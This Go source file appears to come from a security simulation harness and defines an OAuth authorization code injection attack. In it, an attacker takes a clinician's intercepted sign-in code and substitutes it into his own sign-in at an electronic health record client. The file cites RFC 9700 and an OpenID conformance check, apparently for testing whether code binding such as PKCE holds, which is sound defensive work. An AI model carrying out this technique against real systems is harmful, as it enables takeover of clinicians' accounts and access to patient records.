package attacker

import (
	"context"
	"fmt"
	"net/url"

	"thiefbox/sim/event"
)

var _ = register("C-02", Technique{
	Title: "A stolen code in the thief's own session",
	Story: "The answer to a clinician's sign-in never reaches the EHR, and the thief has it. He begins a sign-in of his own at the EHR and " +
		"puts her code in place of his. If nothing ties a code to the browser that asked for it, the EHR takes him for her.",
	Reads: []string{"RFC 9700 s4.5", "OIDF conformance suite, incorrect-pkce-code-verifier-rejected"},
	Needs: []event.Vantage{event.FrontHeld},
	Run: func(ctx context.Context, g Ground) error {
		code, err := heldCode(g)
		if err != nil {
			return err
		}
		own, err := beginSignIn(ctx, g)
		if err != nil {
			return err
		}
		_, err = g.Browser().Visit(ctx, withCode(own, code), "") // the one thing changed
		return err
	},
})

// heldCode is the authorization code of an answer that never arrived.
func heldCode(g Ground) (string, error) {
	for _, m := range g.Overheard(event.FrontHeld) {
		if code := answerOf(m.URL).Get("code"); code != "" {
			return code, nil
		}
	}
	return "", fmt.Errorf("no authorization response with a code was held back")
}

// beginSignIn has the thief sign in at the honest client with his own account, up to the answer,
// which his browser does not deliver: it is returned.
func beginSignIn(ctx context.Context, g Ground) (*url.URL, error) {
	t := g.Target()
	page, err := g.Browser().Visit(ctx, t.ClientLogin+t.Issuer, t.ClientCallback)
	if err != nil {
		return nil, err
	}
	u, err := url.Parse(page.URL)
	if err != nil || !page.Stopped {
		return nil, fmt.Errorf("expected the thief's own sign-in to come to %s, got to %s: %w", t.ClientCallback, page.URL, err)
	}
	return u, nil
}
